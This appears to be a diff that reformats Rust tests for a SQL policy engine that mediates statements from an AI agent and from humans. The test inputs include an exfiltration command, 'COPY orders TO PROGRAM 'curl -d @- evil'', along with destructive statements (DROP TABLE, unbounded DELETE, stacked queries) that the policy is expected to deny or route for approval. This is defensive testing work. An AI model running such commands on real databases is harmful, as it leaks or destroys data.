@@ -63,20 +63,75 @@ fn most_restrictive_matching_rule_decides() {
     let ai = Facts::from_pairs(&[("application_name", "claude-code")]).expect("facts");
     let human = Facts::from_pairs(&[("client_user", "alice")]).expect("facts");
     let cases: [(&Facts, &str, &str, Option<&str>); 14] = [
-        (&ai, "SELECT * FROM orders WHERE id = 1", "allow", Some("reads-are-fine")),
-        (&ai, "GRANT ALL ON orders TO mallory", "require_approval", Some("ai-dangerous")),
-        (&ai, "DELETE FROM orders", "require_approval", Some("ai-unbounded-dml")),
+        (
+            &ai,
+            "SELECT * FROM orders WHERE id = 1",
+            "allow",
+            Some("reads-are-fine"),
+        ),
+        (
+            &ai,
+            "GRANT ALL ON orders TO mallory",
+            "require_approval",
+            Some("ai-dangerous"),
+        ),
+        (
+            &ai,
+            "DELETE FROM orders",
+            "require_approval",
+            Some("ai-unbounded-dml"),
+        ),
         (&ai, "DELETE FROM orders WHERE id = 1", "audit", None),
-        (&ai, "COPY orders TO PROGRAM 'curl -d @- evil'", "deny", Some("no-program")),
-        (&human, "COPY orders TO PROGRAM 'x'", "deny", Some("no-program")),
+        (
+            &ai,
+            "COPY orders TO PROGRAM 'curl -d @- evil'",
+            "deny",
+            Some("no-program"),
+        ),
+        (
+            &human,
+            "COPY orders TO PROGRAM 'x'",
+            "deny",
+            Some("no-program"),
+        ),
         (&human, "DROP TABLE orders", "audit", Some("humans-audited")),
         (&human, "SELECT 1", "audit", Some("humans-audited")),
-        (&ai, "SELECT 1; DROP TABLE orders", "require_approval", Some("ai-dangerous")),
-        (&ai, "DELETE FROM scratch.tmp WHERE a = 1", "allow", Some("scratch-deletes")),
-        (&ai, "DELETE FROM scratch.tmp", "require_approval", Some("ai-unbounded-dml")),
-        (&ai, "DELETE FROM scratch.tmp WHERE id IN (SELECT id FROM orders)", "audit", None),
-        (&ai, "SELECT * FROM payroll.salaries", "deny", Some("payroll-locked")),
-        (&ai, "SELECT * FROM orders JOIN payroll.salaries USING (id)", "deny", Some("payroll-locked")),
+        (
+            &ai,
+            "SELECT 1; DROP TABLE orders",
+            "require_approval",
+            Some("ai-dangerous"),
+        ),
+        (
+            &ai,
+            "DELETE FROM scratch.tmp WHERE a = 1",
+            "allow",
+            Some("scratch-deletes"),
+        ),
+        (
+            &ai,
+            "DELETE FROM scratch.tmp",
+            "require_approval",
+            Some("ai-unbounded-dml"),
+        ),
+        (
+            &ai,
+            "DELETE FROM scratch.tmp WHERE id IN (SELECT id FROM orders)",
+            "audit",
+            None,
+        ),
+        (
+            &ai,
+            "SELECT * FROM payroll.salaries",
+            "deny",
+            Some("payroll-locked"),
+        ),
+        (
+            &ai,
+            "SELECT * FROM orders JOIN payroll.salaries USING (id)",
+            "deny",
+            Some("payroll-locked"),
+        ),
     ];
     for (facts, sql, outcome, rule) in cases {
         let d = p.evaluate(facts, sql, monday_at(12));
@@ -94,7 +149,11 @@ fn permissive_rules_must_cover_everything_touched() {
     let p = policy();
     let ai = Facts::from_pairs(&[("application_name", "claude-code")]).expect("facts");
     // scratch-deletes (allow) does not cover `orders`, so it must not match.
-    let d = p.evaluate(&ai, "DELETE FROM scratch.tmp USING orders WHERE tmp.id = orders.id", monday_at(12));
+    let d = p.evaluate(
+        &ai,
+        "DELETE FROM scratch.tmp USING orders WHERE tmp.id = orders.id",
+        monday_at(12),
+    );
     let trace = d
         .explanation
         .iter()
@@ -127,8 +186,18 @@ fn approval_outcome_carries_its_settings() {
 fn time_windows_limit_rules() {
     let p = policy();
     let human = Facts::from_pairs(&[("client_user", "alice")]).expect("facts");
-    assert_eq!(p.evaluate(&human, "DROP TABLE t", monday_at(23)).outcome.name(), "deny");
-    assert_eq!(p.evaluate(&human, "DROP TABLE t", monday_at(12)).outcome.name(), "audit");
+    assert_eq!(
+        p.evaluate(&human, "DROP TABLE t", monday_at(23))
+            .outcome
+            .name(),
+        "deny"
+    );
+    assert_eq!(
+        p.evaluate(&human, "DROP TABLE t", monday_at(12))
+            .outcome
+            .name(),
+        "audit"
+    );
 }
 
 #[test]
@@ -151,7 +220,8 @@ fn unparseable_statements_are_never_silently_allowed() {
     assert_eq!(d.rule.as_deref(), Some("ai-dangerous"));
 
     let allow_all = "rules:\n  - name: everything\n    outcome: allow\n";
-    let p = PolicySet::from_sources(&[(PathBuf::from("a.yaml"), allow_all.to_string())]).expect("valid");
+    let p = PolicySet::from_sources(&[(PathBuf::from("a.yaml"), allow_all.to_string())])
+        .expect("valid");
     let d = p.evaluate(&Facts::default(), "SELEC * FROM orders", monday_at(12));
     assert_eq!(d.outcome, Outcome::Audit);
     assert_eq!(d.notes.len(), 1);
@@ -162,7 +232,10 @@ fn on_parse_error_setting_maps_unparseable_statements_to_a_class() {
     let yaml = "defaults:\n  on_parse_error: read\nrules:\n  - name: reads\n    match: {class: read}\n    outcome: allow\n";
     let p = PolicySet::from_sources(&[(PathBuf::from("a.yaml"), yaml.to_string())]).expect("valid");
     let d = p.evaluate(&Facts::default(), "SELEC 1", monday_at(12));
-    assert_eq!((d.outcome.name(), d.rule.as_deref()), ("allow", Some("reads")));
+    assert_eq!(
+        (d.outcome.name(), d.rule.as_deref()),
+        ("allow", Some("reads"))
+    );
 }
 
 #[test]
@@ -170,7 +243,12 @@ fn unmatched_default_applies_when_no_rule_matches() {
     let yaml = "defaults:\n  unmatched: {deny: {message: not in policy}}\nrules:\n  - name: reads\n    match: {class: read}\n    outcome: allow\n";
     let p = PolicySet::from_sources(&[(PathBuf::from("a.yaml"), yaml.to_string())]).expect("valid");
     let d = p.evaluate(&Facts::default(), "INSERT INTO t VALUES (1)", monday_at(12));
-    assert_eq!(d.outcome, Outcome::Deny { message: "not in policy".to_string() });
+    assert_eq!(
+        d.outcome,
+        Outcome::Deny {
+            message: "not in policy".to_string()
+        }
+    );
     assert_eq!(d.rule, None);
     assert_eq!(d.unmediated, Unmediated::Terminate);
 }
